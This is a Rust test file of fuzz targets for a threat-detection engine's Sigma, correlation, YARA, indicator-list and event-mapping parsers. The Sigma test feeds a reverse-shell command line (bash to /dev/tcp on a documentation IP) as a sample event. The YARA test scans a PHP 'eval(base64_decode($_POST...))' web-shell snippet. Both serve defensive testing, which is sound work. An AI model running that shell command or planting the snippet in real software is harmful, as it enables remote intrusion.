//! Fuzz targets: every parser here that meets what others have written.

use chrono::DateTime;
use sg_detect::mapping::map_event;
use sg_detect::{Event, FileFacts, LogSource, RuleSource, compile, compile_with, default_pack};
use sg_types::RuleKind;
use sg_types::agent::LogEvent;

use crate::mapping::{ECS, OCSF};
use crate::mutate::fuzz;
use crate::support::{indicators, pack, sigma, yara};

fn corpus(folder: &str) -> Vec<Vec<u8>> {
    let own = default_pack()
        .into_iter()
        .filter(|source| source.name.starts_with(folder));
    own.map(|source| source.text.into_bytes()).collect()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

const SIGMA_WORDS: &[&str] = &[
    "|contains",
    "|all",
    "|re: '",
    "|re|i",
    "|cidr: ",
    "|windash",
    "|base64offset",
    "|wide",
    "|expand: '%x%'",
    "|fieldref: ",
    "|exists: true",
    "|cased",
    "|gt: ",
    "|neq",
    "1 of them",
    "all of sel*",
    " and not ",
    " or ",
    "(",
    ")",
    "*",
    "?",
    "\\",
    "null",
    "---\n",
    "&a ",
    "*a",
    "<<: ",
    "!!binary ",
    "'",
    "\"",
    "- ",
    "\n    ",
    "{",
    "}",
    "[",
    "]",
    "%",
    "|",
    ": ",
    "0x",
    "1e999",
    "\u{feff}",
    "İ",
    "ß",
    ".{1000,}",
    "(a+)+$",
    "\\b",
    "[[:alpha:]]",
];

#[test]
fn sigma_rules() {
    let words = "Image|endswith: '/bash'\nCommandLine|contains|all:\n";
    let mut corpus = corpus("sigma/");
    corpus.push(words.as_bytes().to_vec());
    fuzz(corpus, SIGMA_WORDS, |input| {
        let placeholders = [("x".to_owned(), vec!["a*".to_owned(), "%x%".to_owned()])].into();
        let (rules, diagnostics) = compile_with(&[sigma("fuzz.yml", text(input))], &placeholders);
        diagnostics
            .iter()
            .for_each(|one| assert!(!one.to_string().is_empty()));
        for line in ["bash -i >& /dev/tcp/192.0.2.1/1 0>&1", "", "İß\u{0}\n"] {
            let mut event = Event::new(LogSource::LINUX_PROCESS_CREATION);
            event
                .set_named("CommandLine", line)
                .set_named("Image", "/usr/bin/bash");
            assert_eq!(rules.evaluate(&event), rules.evaluate_full_scan(&event));
            for rule in rules.rules() {
                rules.explain(&rule.id, &event);
            }
        }
    });
}

#[test]
fn correlations() {
    const WORDS: &[&str] = &[
        "type: event_count\n",
        "type: value_count\n",
        "type: temporal\n",
        "type: temporal_ordered\n",
        "type: value_percentile\n",
        "percentile: 101\n",
        "group-by:\n",
        "timespan: 30d\n",
        "timespan: -1s\n",
        "timespan: 99999999999999999999d\n",
        "gte: ",
        "lt: 0\n",
        "field: ",
        "aliases:\n",
        "generate: true\n",
        "rules:\n",
        "- a\n",
        "condition:\n",
        "---\n",
        "1e308",
        "NaN",
        "{",
        "}",
        "[",
        "]",
    ];
    let words = "title: t\nname: t\ncorrelation:\n    type: event_count\n    rules: [a]\n    group-by: [User]\n    timespan: 1m\n    condition:\n        gte: 3\n";
    let mut corpus = corpus("correlations/");
    corpus.push(words.as_bytes().to_vec());
    fuzz(corpus, WORDS, |input| {
        let (rules, _) = compile(&[sigma("fuzz.yml", text(input))]);
        for correlation in rules.correlations() {
            assert!(correlation.rules.len() <= sg_detect::limits::MAX_CORRELATED_RULES);
        }
    });
}

#[test]
fn yara_rules() {
    const WORDS: &[&str] = &[
        "rule a { condition: true }",
        "strings:",
        "$a = ",
        "{ 00 ?? [0-99999] ~41 ( 41 | 42 ) }",
        "/a{1,30000}/",
        "/(a|b)*c/",
        " wide nocase xor base64",
        " xor(0-255)",
        "for any i in (1..#a) : ( @a[i] < 9 )",
        "import \"math\"\n",
        "import \"hash\"\n",
        "import \"time\"\n",
        "include \"x\"\n",
        "math.entropy(0, filesize)",
        "hash.md5(0, filesize)",
        "uint32(0xffffffffffffffff)",
        "filesize",
        "/*",
        "*/",
        "//",
        "\"",
        "\\x",
        "\\",
        "{",
        "}",
        "(",
        ")",
        "not ",
        " and ",
        " of them",
        "all of ($*)",
        "private ",
        "global ",
        "meta:",
        "9223372036854775807",
        "-",
        " % 0",
        " \\ 0",
        " << 64",
        "KB",
    ];
    fuzz(corpus("yara/"), WORDS, |input| {
        let (rules, diagnostics) = compile(&[yara("fuzz.yar", text(input))]);
        diagnostics
            .iter()
            .for_each(|one| assert!(!one.to_string().is_empty()));
        rules.scan(
            b"MZ\x90\x00 eval(base64_decode($_POST[1])) abababab",
            "/srv/x.php",
        );
        rules.scan(b"", "");
    });
}

#[test]
fn indicator_lists() {
    const WORDS: &[&str] = &[
        "value,type\n",
        ",",
        "\"",
        "\n",
        "sha256",
        "ip",
        "domain",
        "filename",
        "2027-01-31",
        "1e9",
        "-1",
        "::1",
        "10.0.0.0/8",
        "xn--",
        ".",
        "[",
        "]",
        "{\"value\":",
        "\"type\":\"ip\"",
        "}",
        "null",
        " OR ",
        " AND ",
        " IN ('a', 'b')",
        "file:hashes.'SHA-256' = '",
        "'",
        "\\",
        "filename|sha256",
        "http://[::1]:0/%",
        "\u{0}",
        "\u{feff}",
    ];
    let mut corpus = corpus("indicators/");
    corpus.push(br#"[{"value": "198.51.100.7", "type": "ip", "severity": "high", "confidence": 0.5, "expires_at": "2027-01-31"}]"#.to_vec());
    corpus.push(br#"{"type": "bundle", "objects": [{"type": "indicator", "id": "indicator--1", "pattern": "[url:value = 'http://a.example/' OR ipv4-addr:value IN ('198.51.100.7')]", "valid_until": "2027-01-31T00:00:00Z"}]}"#.to_vec());
    corpus.push(br#"{"Event": {"info": "i", "threat_level_id": "1", "Attribute": [{"type": "domain|ip", "value": "a.example|198.51.100.7", "to_ids": true}]}}"#.to_vec());
    fuzz(corpus, WORDS, |input| {
        let (rules, _) = compile(&[
            indicators("fuzz.csv", text(input)),
            RuleSource {
                kind: RuleKind::Indicator,
                name: "fuzz.json".into(),
                text: text(input),
            },
        ]);
        let facts = FileFacts {
            path: "/tmp/x",
            sha256: Some([0; 32]),
            ..FileFacts::default()
        };
        rules.check_file(&facts, DateTime::UNIX_EPOCH);
        rules.check_domain("a.example.com", DateTime::UNIX_EPOCH);
        rules.check_address([198, 51, 100, 7].into(), DateTime::UNIX_EPOCH);
        rules.check_url("http://a.example/", DateTime::UNIX_EPOCH);
    });
}

#[test]
fn events() {
    const WORDS: &[&str] = &[
        "\"logsource\":",
        "\"product\":\"linux\"",
        "\"fields\":{",
        "\"class_uid\":",
        "\"@timestamp\":",
        "\"time\":",
        "\"event\":{",
        "\"process\":",
        "[",
        "]",
        "{",
        "}",
        ",",
        ":",
        "\"",
        "null",
        "1e400",
        "-9223372036854775809",
        "9223372036854775807",
        "\\ud800",
        "\\u0000",
        "\"2026-11-26T10:00:00Z\"",
        "\"a.b.c\"",
        "\"args\":[",
    ];
    let own = r#"{"logsource": {"product": "linux", "category": "process_creation"}, "fields": {"Image": "/bin/sh", "a": {"b": [1, 2.5, null, true]}}, "time": 1795687200123, "id": "7"}"#;
    let flat =
        r#"{"Image": "/bin/sh", "CommandLine": "sh -c \"id\"", "ProcessId": 7, "User": null, "x": 1.5}"#;
    let corpus = [ECS, OCSF, own, flat]
        .map(|text| text.as_bytes().to_vec())
        .to_vec();
    fuzz(corpus, WORDS, |input| {
        let text = text(input);
        if let Ok(mapped) = map_event(
            &text,
            &LogEvent {
                product: Some("linux".into()),
                ..LogEvent::default()
            },
        ) {
            let event = Event::logged(&mapped.event);
            assert_eq!(pack().evaluate(&event), pack().evaluate_full_scan(&event));
        }
        if let Ok(event) = Event::from_json(&text, LogSource::LINUX_PROCESS_CREATION) {
            assert_eq!(pack().evaluate(&event), pack().evaluate_full_scan(&event));
        }
    });
}
